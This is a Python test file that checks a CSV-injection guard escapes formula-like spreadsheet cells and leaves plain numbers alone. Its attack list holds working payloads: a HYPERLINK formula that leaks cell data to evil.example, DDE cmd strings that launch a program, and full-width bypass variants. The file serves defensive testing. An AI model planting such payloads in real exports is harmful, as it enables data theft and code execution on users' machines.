"""Cells that a spreadsheet would run."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relatum.importing.formulas import guard, unguard

#: From OWASP's page on CSV injection, and what people found to get around guards.
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠sum",
    "+84-90-123",
    "-1-2",
    "+1+2",
    "--1",
    "+84 (90) 123",
    "'=1",
    "'",
]
HARMLESS = [
    "",
    "plain",
    "-5",
    "-1.234,5",
    "+7",
    "-1.5E-3",
    "+84901234567",
    "+84 90 123 4568",
    "+84.90.123",
    "a=1",
    "1-2",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert guard(cell) == f"'{cell}"
    assert unguard(guard(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_plain_numbers_phone_numbers_and_text_stay_as_they_are(cell):
    assert guard(cell) == cell
    assert unguard(cell) == cell


signs = st.sampled_from("=+-@\t\r\n'＝＋－＠0123456789 .,eE|!()a\"")


@given(st.text(signs, max_size=12) | st.text(max_size=12))
def test_taking_the_guard_off_gives_the_cell_back(cell):
    assert unguard(guard(cell)) == cell


@given(st.text(signs, max_size=12))
def test_no_guarded_cell_begins_like_a_formula_unless_it_is_a_number(cell):
    guarded = guard(cell)
    if guarded[:1] and guarded[0] in "=+-@\t\r\n＝＋－＠":
        # written independently: signs, digits, and marks between digits, nothing that calculates
        assert re.fullmatch(r"[+-]\d[\d.,]*([eE][+-]?\d+)?|\+\d[\d .]*", guarded)


@given(st.lists(st.text(signs, max_size=8), min_size=2, max_size=4))
def test_quotes_and_separators_inside_a_cell_start_no_other_cell(cells):
    out = io.StringIO(newline="")
    csv.writer(out).writerow([guard(cell) for cell in cells])
    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert [unguard(cell) for cell in row] == cells
